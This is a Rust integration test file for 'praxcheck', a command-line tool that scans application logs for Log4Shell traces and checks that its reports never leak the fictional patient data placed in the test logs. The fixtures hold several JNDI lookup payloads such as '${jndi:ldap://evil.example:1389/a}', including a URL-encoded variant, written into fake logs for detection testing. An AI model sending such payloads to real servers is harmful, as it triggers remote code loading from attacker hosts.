//! `praxcheck logs` and the log part of `praxcheck scan`, as a user runs them.

use std::path::Path;
use std::process::{Command, Output};

fn run(args: &[&str], lang: Option<&str>) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_praxcheck"));
    c.env_remove("LANG")
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env("NO_COLOR", "1");
    if let Some(l) = lang {
        c.env("LANG", l);
    }
    c.args(args).output().unwrap()
}

const PATIENT: &[&str] = &[
    "Mustermann",
    "12.08.1964",
    "A123456789",
    "F32.1",
    "Depression",
];

/// A Tomcat-like installation: an application with a log folder holding a payload next to
/// patient data, a rotated gzip log, and a stack trace showing the lookup ran.
fn fixture(root: &Path) {
    let logs = root.join("praxis-server/logs");
    std::fs::create_dir_all(&logs).unwrap();
    std::fs::write(
        logs.join("app.log"),
        "2021-12-11 10:00:00,000 INFO Patientin Erika Mustermann, geb. 12.08.1964, KVNR A123456789, \
         Diagnose F32.1 Depression ${jndi:ldap://evil.example:1389/a} Ende\n\
         2021-12-11 10:00:01,000 WARN Fehler\n\
         \tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)\n",
    )
    .unwrap();
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(
        &mut e,
        b"10.1.2.3 - - [10/Dec/2021:22:00:00 +0100] \"GET /?x=%24%7Bjndi:dns://old.example%7D HTTP/1.1\" 200 1\n",
    )
    .unwrap();
    std::fs::write(logs.join("access.log.1.gz"), e.finish().unwrap()).unwrap();
}

#[test]
fn logs_writes_the_document_with_evidence_levels() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let out = dir.path().join("logs.json");
    let o = run(
        &[
            "logs",
            "-q",
            "--path",
            dir.path().join("praxis-server/logs").to_str().unwrap(),
            "--format",
            "json",
            "--output",
            out.to_str().unwrap(),
        ],
        None,
    );
    assert_eq!(o.status.code(), Some(1), "traces of an attack fail the run");
    let text = std::fs::read_to_string(&out).unwrap();
    let value: serde_json::Value = serde_json::from_str(&text).unwrap();
    let schema: serde_json::Value = serde_json::from_str(&praxcheck_model::json_schema()).unwrap();
    let v = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = v.iter_errors(&value).map(|e| e.to_string()).collect();
    assert!(errors.is_empty(), "{errors:?}");
    let doc = praxcheck_model::Document::from_json(text.as_bytes()).unwrap();
    assert_eq!(
        doc.scan.collectors,
        vec![praxcheck_model::CollectorId::Logs]
    );
    let ev = &doc.inventory.log_evidence;
    assert_eq!(ev.len(), 2, "{ev:?}");
    assert!(ev[0].location.display.ends_with("access.log.1.gz"));
    assert_eq!(ev[0].level.as_str(), "payload_seen");
    assert_eq!(ev[0].source_address.as_deref(), Some("10.1.2.3"));
    assert!(ev[1].location.display.ends_with("app.log"));
    assert_eq!(ev[1].level.as_str(), "lookup_executed");
    assert_eq!(
        ev[1].payload.as_deref(),
        Some("${jndi:ldap://evil.example:1389/a}")
    );
    assert_eq!(doc.inventory.log_sources.len(), 1);
    assert_eq!(doc.inventory.log_sources[0].files_scanned, 2);
    // `--fail-on none` runs clean.
    let o = run(
        &[
            "logs",
            "--path",
            dir.path().to_str().unwrap(),
            "--fail-on",
            "none",
            "--format",
            "json",
        ],
        None,
    );
    assert_eq!(o.status.code(), Some(0));
    // The exit code follows the severity of the findings: an attempt (high) alone does not
    // fail `--fail-on critical`, an executed lookup (critical) does.
    let access = dir.path().join("praxis-server/logs/access.log.1.gz");
    let o = run(
        &[
            "logs",
            "-q",
            "--path",
            access.to_str().unwrap(),
            "--fail-on",
            "critical",
        ],
        None,
    );
    assert_eq!(
        o.status.code(),
        Some(0),
        "payload seen is high, not critical"
    );
    let o = run(
        &[
            "logs",
            "-q",
            "--path",
            access.to_str().unwrap(),
            "--fail-on",
            "high",
        ],
        None,
    );
    assert_eq!(o.status.code(), Some(1));
    let app = dir.path().join("praxis-server/logs/app.log");
    let o = run(
        &[
            "logs",
            "-q",
            "--path",
            app.to_str().unwrap(),
            "--fail-on",
            "critical",
        ],
        None,
    );
    assert_eq!(o.status.code(), Some(1), "an executed lookup is critical");
    // Nothing readable: exit code 2.
    let o = run(&["logs", "--path", "/does/not/exist"], None);
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn patient_data_appears_in_no_output_format() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let p = dir.path().to_str().unwrap();
    for args in [
        vec!["logs", "--path", p, "--format", "json"],
        vec!["logs", "--path", p, "--format", "text", "--all"],
        vec!["logs", "--path", p, "--format", "csv"],
        vec![
            "logs", "--lang", "en", "--path", p, "--format", "text", "--all",
        ],
        vec!["scan", "--path", p, "--format", "json", "--no-processes"],
        vec![
            "scan",
            "--path",
            p,
            "--format",
            "text",
            "--no-processes",
            "--all",
        ],
    ] {
        let o = run(&args, None);
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        );
        assert!(
            all.contains("evil.example") || args.contains(&"csv"),
            "{args:?}: {all}"
        );
        for secret in PATIENT {
            assert!(!all.contains(secret), "{args:?} leaked {secret}: {all}");
        }
    }
}

#[test]
fn text_summary_in_german_and_english() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let p = dir.path().to_str().unwrap();
    let de = String::from_utf8(run(&["logs", "--path", p], None).stdout).unwrap();
    assert!(de.contains("Angriffscode wurde ausgeführt"), "{de}");
    assert!(de.contains("Art. 33 DSGVO"), "{de}");
    assert!(de.contains("Zeile 1"), "{de}");
    let en = String::from_utf8(run(&["logs", "--path", p], Some("en_US.UTF-8")).stdout).unwrap();
    assert!(en.contains("Attack code was executed"), "{en}");
    assert!(en.contains("GDPR Art. 33"), "{en}");
    let help = String::from_utf8(run(&["logs", "--help"], None).stdout).unwrap();
    assert!(help.contains("Protokolldatei"), "{help}");
}

#[test]
fn scan_includes_the_log_folders_it_finds() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let o = run(
        &[
            "scan",
            "-q",
            "--path",
            dir.path().to_str().unwrap(),
            "--format",
            "json",
            "--no-processes",
        ],
        None,
    );
    assert_eq!(o.status.code(), Some(1));
    let doc = praxcheck_model::Document::from_json(&o.stdout).unwrap();
    assert!(doc.ran(praxcheck_model::CollectorId::Logs));
    assert_eq!(doc.inventory.log_evidence.len(), 2);
    let src = &doc.inventory.log_sources;
    assert_eq!(src.len(), 1);
    assert!(src[0].location.display.ends_with("praxis-server/logs"));
    assert_eq!(src[0].origin.as_str(), "java_application");
    // --no-logs leaves the collector out.
    let o = run(
        &[
            "scan",
            "-q",
            "--path",
            dir.path().to_str().unwrap(),
            "--format",
            "json",
            "--no-processes",
            "--no-logs",
        ],
        None,
    );
    let doc = praxcheck_model::Document::from_json(&o.stdout).unwrap();
    assert!(doc.inventory.log_evidence.is_empty());
    assert_eq!(o.status.code(), Some(0));
}

#[test]
fn every_disguise_has_a_name_in_both_languages() {
    for lang in [praxcheck_i18n::Lang::De, praxcheck_i18n::Lang::En] {
        let cat = praxcheck_i18n::Catalog::new(lang);
        for o in praxcheck_model::Obfuscation::ALL {
            let key = format!("obfuscation-{}", o.as_str().replace('_', "-"));
            assert!(cat.has(&key), "{key} missing in {lang:?}");
        }
    }
    assert_eq!(
        praxcheck_model::Obfuscation::HashInHost as usize + 1,
        praxcheck_model::Obfuscation::ALL.len(),
        "ALL lists every variant in order"
    );
    for (i, o) in praxcheck_model::Obfuscation::ALL.iter().enumerate() {
        assert_eq!(*o as usize, i);
    }
}

/// Issue 11, item 7: a log finding names every file with its count in text, CSV and HTML,
/// and SARIF carries the traces with file and line; an older document without
/// `log_summary` still renders that way.
#[test]
fn log_findings_name_every_file_with_its_count() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir_all(&logs).unwrap();
    let line =
        |n: u32| format!("2021-12-11 10:00:0{n},000 INFO ${{jndi:ldap://evil.example/{n}}}\n");
    std::fs::write(
        logs.join("access.log"),
        format!("ok\n{}ok\n{}{}", line(1), line(2), line(3)),
    )
    .unwrap();
    std::fs::write(logs.join("error.log"), line(4)).unwrap();
    let p = logs.to_str().unwrap();
    let render = |args: &[&str]| {
        let o = Command::new(env!("CARGO_BIN_EXE_praxcheck"))
            .env_remove("LANG")
            .env("NO_COLOR", "1")
            .args(["--lang", "en"])
            .args(args)
            .args(["--fail-on", "none"])
            .output()
            .unwrap();
        assert_eq!(
            o.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&o.stderr)
        );
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let json = dir.path().join("doc.json");
    render(&[
        "logs",
        "-q",
        "--path",
        p,
        "--format",
        "json",
        "--output",
        json.to_str().unwrap(),
    ]);
    let mut doc: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&json).unwrap()).unwrap();
    let old = dir.path().join("old.json");
    doc["inventory"]
        .as_object_mut()
        .unwrap()
        .remove("log_summary");
    std::fs::write(&old, serde_json::to_vec(&doc).unwrap()).unwrap();
    for from in [&json, &old] {
        let f = from.to_str().unwrap();
        let text = render(&["report", "--from", f, "--format", "text"]);
        assert!(text.contains("access.log: 3 traces, lines 2–5"), "{text}");
        assert!(text.contains("error.log: one trace, line 1"), "{text}");
        let csv = render(&["report", "--from", f, "--format", "csv"]);
        let rows: Vec<&str> = csv.lines().filter(|l| l.contains(".log")).collect();
        assert_eq!(rows.len(), 2, "{csv}");
        assert!(
            rows.iter()
                .any(|r| r.contains("access.log") && r.contains("3 traces")),
            "{csv}"
        );
        assert!(
            rows.iter()
                .any(|r| r.contains("error.log") && r.contains("one trace")),
            "{csv}"
        );
        let html = render(&["report", "--from", f, "--format", "html"]);
        assert!(html.contains("access.log: 3 traces"), "{f}");
        assert!(html.contains("error.log: one trace"), "{f}");
        let sarif: serde_json::Value =
            serde_json::from_str(&render(&["report", "--from", f, "--format", "sarif"])).unwrap();
        let results = sarif["runs"][0]["results"].as_array().unwrap();
        let mut at: Vec<(String, u64)> = results
            .iter()
            .map(|r| {
                let l = &r["locations"][0]["physicalLocation"];
                let uri = l["artifactLocation"]["uri"].as_str().unwrap();
                let file = uri.rsplit('/').next().unwrap().to_owned();
                (file, l["region"]["startLine"].as_u64().unwrap())
            })
            .collect();
        at.sort();
        let want: Vec<(String, u64)> = [
            ("access.log", 2),
            ("access.log", 4),
            ("access.log", 5),
            ("error.log", 1),
        ]
        .iter()
        .map(|(f, l)| ((*f).to_owned(), *l))
        .collect();
        assert_eq!(at, want, "{sarif}");
    }
}
